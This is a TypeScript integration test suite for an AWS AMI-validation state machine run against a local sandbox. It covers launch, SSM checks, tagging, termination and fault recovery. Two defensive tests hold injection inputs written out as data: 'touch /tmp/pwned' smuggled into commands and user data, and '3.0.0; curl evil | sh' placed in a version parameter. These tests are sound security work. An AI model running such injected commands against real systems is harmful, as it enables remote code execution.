/**
 * The project's own ValidateAmi machine (statemachines/validate-ami.asl.yml through
 * serverless.yml) run by the sandbox end to end, started with the real SFNClient: the image's
 * tags read, RunInstances with the stack's profile and security group, the polling loops, one
 * SendCommand of the stack's checks document (the real check script, the version its only
 * parameter) against the instance's files, the Evaluate Check Results Lambda in-process,
 * tagging, termination; a failing check; a lost launch answer whose instance shows only on the
 * third lookup; an aborted execution whose instance the EventBridge rule's Lambda terminates;
 * and one whose Lambda cannot, left to the instance's own lifetime guard.
 */
import { DescribeImagesCommand, DescribeInstancesCommand, type EC2Client } from '@aws-sdk/client-ec2';
import {
  DescribeExecutionCommand,
  GetExecutionHistoryCommand,
  type HistoryEvent,
  SFNClient,
  StartExecutionCommand,
  StopExecutionCommand,
} from '@aws-sdk/client-sfn';
import { SendCommandCommand, type SSMClient } from '@aws-sdk/client-ssm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CHECK_NAMES } from '../../functions/lib/checks';
import { sandboxCredentials } from '../../sandbox/credentials';
import type { Delivery } from '../../sandbox/eventbridge';
import { type Sandbox, startSandbox } from '../../sandbox/server';
import { securityGroupId } from '../../sandbox/serverless-config';
import { sandboxEc2, sandboxSsm, waitFor } from '../support/sandbox-clients';
import { serviceInput } from '../support/validate-ami-fakes';

const MACHINE = 'arn:aws:states:us-west-2:123456789012:stateMachine:pulsar-ami-dev-validate-ami';

let sandbox: Sandbox;
let sfn: SFNClient;
let ec2: EC2Client;
let ssm: SSMClient;
let imageId: string;
const DOCUMENT = 'pulsar-ami-dev-validation-checks';

beforeAll(async () => {
  sandbox = await startSandbox({ port: 0 });
  sfn = new SFNClient({
    region: 'us-west-2',
    endpoint: sandbox.url,
    credentials: sandboxCredentials,
    maxAttempts: 1,
  });
  ec2 = sandboxEc2(sandbox.url);
  ssm = sandboxSsm(sandbox.url);
});
afterAll(async () => {
  sfn.destroy();
  ec2.destroy();
  ssm.destroy();
  await sandbox.close();
});
beforeEach(() => {
  sandbox.reset();
  sandbox.faults.clear();
  imageId =
    [...sandbox.world.region('us-west-2').images.values()].find((i) => i.name.startsWith('pulsar-base-3.0.0'))
      ?.imageId ?? '';
});

const input = () => serviceInput(imageId);

async function control<T>(method: string, path: string, body?: unknown): Promise<T> {
  const response = await fetch(`${sandbox.url}/_sandbox/${path}`, {
    method,
    headers: { 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return (await response.json()) as T;
}

async function run(name: string, executionInput: object = input()) {
  const { executionArn = '' } = await sfn.send(
    new StartExecutionCommand({ stateMachineArn: MACHINE, name, input: JSON.stringify(executionInput) }),
  );
  await control('POST', 'executions/wait', { executionArns: [executionArn], timeoutMs: 25_000 });
  return sfn.send(new DescribeExecutionCommand({ executionArn }));
}

async function liveInstances(): Promise<string[]> {
  const out = await ec2.send(new DescribeInstancesCommand({}));
  return (out.Reservations ?? [])
    .flatMap((r) => r.Instances ?? [])
    .filter((i) => i.State?.Name !== 'terminated')
    .map((i) => `${i.InstanceId} ${i.State?.Name}`);
}

async function history(executionArn: string): Promise<HistoryEvent[]> {
  const out = await sfn.send(new GetExecutionHistoryCommand({ executionArn, maxResults: 1000 }));
  return out.events ?? [];
}

describe('ValidateAmi in the sandbox', () => {
  it('passes a healthy seeded image: one SendCommand, the AMI tagged, the instance terminated', async () => {
    sandbox.calls.clear();
    const started = Date.now();
    const done = await run('healthy');
    expect(done.status, `${done.error}: ${done.cause}`).toBe('SUCCEEDED');
    const output = JSON.parse(done.output ?? '{}');
    expect(output).toMatchObject({ imageId, passed: true, failedChecks: [] });
    expect((output.checks as { name: string }[]).map((c) => c.name)).toEqual([...CHECK_NAMES]);
    expect(Date.now() - started).toBeLessThan(20_000);

    const calls = sandbox.calls.list();
    expect(calls.filter((c) => c.action === 'SendCommand')).toHaveLength(1);
    expect(calls.filter((c) => c.action === 'RunInstances')).toHaveLength(1);
    // The stack's document, its only parameter the image's PulsarVersion; nothing else ran.
    const commands = [...sandbox.world.region('us-west-2').commands.values()];
    expect(commands.map((c) => [c.documentName, c.parameters])).toEqual([[DOCUMENT, { version: ['3.0.0'] }]]);
    const [instance] = [...sandbox.world.region('us-west-2').instances.values()];
    expect(instance?.securityGroupIds).toEqual([
      securityGroupId('dev', 'us-west-2', 'ValidationSecurityGroup'),
    ]);
    expect(instance?.metadataOptions?.httpTokens).toBe('required');
    expect(instance?.iamInstanceProfile?.arn).toMatch(/:instance-profile\/pulsar-ami-dev-validation$/);
    expect(instance?.shutdownBehavior).toBe('terminate');
    expect(
      calls.filter((c) => c.service === 'lambda' && c.path === 'pulsar-ami-dev-evaluateCheckResults'),
    ).toHaveLength(1);

    const image = await ec2.send(new DescribeImagesCommand({ ImageIds: [imageId] }));
    const tags = Object.fromEntries((image.Images?.[0]?.Tags ?? []).map((t) => [t.Key, t.Value]));
    expect(tags).toMatchObject({ Validated: 'true', ValidationExecutionArn: done.executionArn });
    await waitFor(liveInstances, (live) => live.length === 0, { what: 'the test instance terminated' });

    const { executions } = await control<{ executions: { name: string; transitions: number }[] }>(
      'GET',
      'executions',
    );
    const transitions = executions.find((e) => e.name === 'healthy')?.transitions ?? 0;
    expect(transitions).toBeGreaterThan(10);
  });

  it('fails an image missing a component with ValidationChecksFailed naming the check', async () => {
    await control('PUT', 'faults', { imageMissing: { component: 'openmessaging-benchmark' } });
    const done = await run('missing-omb');
    expect(done.status).toBe('FAILED');
    expect(done.error).toBe('ValidationChecksFailed');
    expect(done.cause).toBe('Validation checks failed: ["OpenMessaging Benchmark installed"]');
    await waitFor(liveInstances, (live) => live.length === 0, { what: 'the test instance terminated' });
  });

  it('ignores commands and user data smuggled into the input: the document runs, nothing else', async () => {
    const done = await run('smuggled', {
      ...input(),
      checks: { commands: ['touch /tmp/pwned'] },
      commands: ['touch /tmp/pwned'],
      userData: Buffer.from('#!/bin/bash\ntouch /tmp/pwned\n').toString('base64'),
    });
    expect(done.status, `${done.error}: ${done.cause}`).toBe('SUCCEEDED');
    const [command] = [...sandbox.world.region('us-west-2').commands.values()];
    expect(command?.commands?.join('\n')).not.toContain('pwned');
    const [instance] = [...sandbox.world.region('us-west-2').instances.values()];
    expect(Buffer.from(instance?.userData ?? '', 'base64').toString()).not.toContain('pwned');
  });

  it('a lost launch answer: the instance, hidden from its first two lookups, is found by client token and terminated', async () => {
    // Every launch attempt (the first and its 3 retries) launches or finds the instance, and
    // loses the answer; DescribeInstances does not show the new instance to its first 2 reads.
    await control('PUT', 'faults', { launchAnswerLost: { times: 4 }, hideNewInstances: { reads: 2 } });
    const done = await run('lost-answer');
    expect(done.status).toBe('FAILED');
    const events = await history(done.executionArn ?? '');
    const entered = (state: string) =>
      events.filter((e) => e.stateEnteredEventDetails?.name === state).length;
    expect(entered('Find Instances From Failed Launch')).toBe(3);
    expect(entered('Terminate Test Instance')).toBe(1);
    const instances = [...sandbox.world.region('us-west-2').instances.values()];
    expect(instances).toHaveLength(1);
    // The token drawn at the start of the execution (a UUID), not its predictable name.
    expect(instances[0]?.clientToken).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
    await waitFor(liveInstances, (live) => live.length === 0, { what: 'the found instance terminated' });
  });

  it('SendCommand with the stack’s document refuses a version off its pattern (InvalidParameters) and an unknown document', async () => {
    const [instance] = (await ec2.send(new DescribeInstancesCommand({}))).Reservations?.flatMap(
      (r) => r.Instances ?? [],
    ) ?? [{ InstanceId: 'i-0123456789abcdef0' }];
    const send = (DocumentName: string, Parameters: Record<string, string[]>) =>
      ssm.send(
        new SendCommandCommand({
          DocumentName,
          InstanceIds: [instance?.InstanceId ?? 'i-0123456789abcdef0'],
          Parameters,
        }),
      );
    await expect(send(DOCUMENT, { version: ['3.0.0; curl evil | sh'] })).rejects.toMatchObject({
      name: 'InvalidParameters',
    });
    await expect(send(DOCUMENT, { version: ['3.0.0'], commands: ['id'] })).rejects.toMatchObject({
      name: 'InvalidParameters',
    });
    await expect(send(DOCUMENT, {})).rejects.toMatchObject({ name: 'InvalidParameters' });
    await expect(send('pulsar-ami-dev-no-such-document', { version: ['3.0.0'] })).rejects.toMatchObject({
      name: 'InvalidDocument',
    });
  });

  it('an aborted execution skips Catch; the EventBridge rule terminates its instance', async () => {
    const { executionArn = '' } = await sfn.send(
      new StartExecutionCommand({
        stateMachineArn: MACHINE,
        name: 'aborted',
        input: JSON.stringify(input()),
      }),
    );
    await waitFor(
      () => history(executionArn),
      (events) => events.some((e) => e.stateEnteredEventDetails?.name === 'Wait For Instance Running'),
      { what: 'the launch', timeoutMs: 10_000 },
    );
    await sfn.send(new StopExecutionCommand({ executionArn, error: 'Stopped', cause: 'test' }));
    const [delivery] = (await control<{ deliveries: Delivery[] }>('POST', 'events/wait')).deliveries;
    expect(delivery).toMatchObject({ function: 'terminateExecutionInstances', status: 'succeeded' });
    const events = await history(executionArn);
    expect(events.some((e) => e.stateEnteredEventDetails?.name === 'Terminate Test Instance')).toBe(false);
    await waitFor(liveInstances, (live) => live.length === 0, { what: 'the rule to terminate the instance' });
  });
});

describe('the lifetime guard', () => {
  let fast: Sandbox;
  let fastSfn: SFNClient;
  let fastEc2: EC2Client;
  beforeAll(async () => {
    // 90 minutes of lifetime in about 5 s.
    fast = await startSandbox({ port: 0, timeScale: 0.001 });
    fastSfn = new SFNClient({
      region: 'us-west-2',
      endpoint: fast.url,
      credentials: sandboxCredentials,
      maxAttempts: 1,
    });
    fastEc2 = sandboxEc2(fast.url);
  });
  afterAll(async () => {
    fastSfn.destroy();
    fastEc2.destroy();
    await fast.close();
  });

  it('terminates the test instance itself when nothing else can (machine aborted, the rule’s Lambda failing)', async () => {
    const image = [...fast.world.region('us-west-2').images.values()].find((i) =>
      i.name.startsWith('pulsar-base-3.0.0'),
    );
    // The checks never finish, and every TerminateInstances fails: Catch, the rule and the sweeper cannot help.
    fast.faults.set({ commandHangs: true, terminateFails: { times: 10_000, code: 'InternalError' } });
    const { executionArn = '' } = await fastSfn.send(
      new StartExecutionCommand({
        stateMachineArn: MACHINE,
        name: 'guarded',
        input: JSON.stringify(serviceInput(image?.imageId)),
      }),
    );
    const live = async () =>
      ((await fastEc2.send(new DescribeInstancesCommand({}))).Reservations ?? []).flatMap(
        (r) => r.Instances ?? [],
      );
    await waitFor(live, (instances) => instances.some((i) => i.State?.Name === 'running'), {
      what: 'the test instance running',
      timeoutMs: 10_000,
    });
    await fastSfn.send(new StopExecutionCommand({ executionArn, error: 'Stopped', cause: 'test' }));
    const [done] = await waitFor(
      live,
      (instances) => instances.every((i) => i.State?.Name === 'terminated'),
      {
        what: 'the lifetime guard to terminate the instance',
        timeoutMs: 20_000,
        intervalMs: 100,
      },
    );
    expect(done?.StateReason?.Code).toBe('Client.InstanceInitiatedShutdown');
    fast.faults.clear();
  }, 40_000);
});
